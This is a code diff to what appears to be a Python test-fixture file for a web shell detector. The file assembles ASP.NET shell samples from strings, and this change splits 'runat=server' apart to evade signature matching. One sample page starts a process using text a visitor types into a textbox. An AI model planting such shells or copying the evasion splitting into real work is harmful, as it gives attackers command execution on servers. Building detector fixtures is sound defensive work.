@@ -9,15 +9,16 @@ from __future__ import annotations
 from web_pages import ASM, EV, EX, PROC, REQ, WSH
 
 CS, VB, JS = '<%@ Page Language="C#"%>', '<%@ Page Language="VB"%>', '<%@ Page Language="JScript"%>'
+SERVER = "run" + 'at="server"'
 SH, FSO, STREAM = "Shell.Appli" + "cation", "Scripting.FileSys" + "temObject", "ADODB.Str" + "eam"
 
 
 def csharp(code: str) -> str:
-    return f'{CS}\n<script runat="server">\nvoid Page_Load(object o, EventArgs e)\n{{\n{code}\n}}\n</script>'
+    return f"{CS}\n<script {SERVER}>\nvoid Page_Load(object o, EventArgs e)\n{{\n{code}\n}}\n</script>"
 
 
 def basic(code: str) -> str:
-    return f'{VB}\n<script runat="server">\nSub Page_Load(o As Object, e As EventArgs)\n{code}\nEnd Sub\n</script>'
+    return f"{VB}\n<script {SERVER}>\nSub Page_Load(o As Object, e As EventArgs)\n{code}\nEnd Sub\n</script>"
 
 
 SHELLS: dict[str, tuple[str, str, str]] = {
@@ -123,7 +124,7 @@ SHELLS: dict[str, tuple[str, str, str]] = {
     "cs field": (
         "aspx",
         "runs-command",
-        f'{CS}\n<script runat="server">\nvoid Go(object o, EventArgs e) {{ {PROC}.Start("x", alpha.Text); }}\n</script>\n<asp:TextBox id="alpha" runat="server"/>',
+        f'{CS}\n<script {SERVER}>\nvoid Go(object o, EventArgs e) {{ {PROC}.Start("x", alpha.Text); }}\n</script>\n<asp:TextBox id="alpha" runat="server"/>',
     ),
     "cs handler": (
         "ashx",
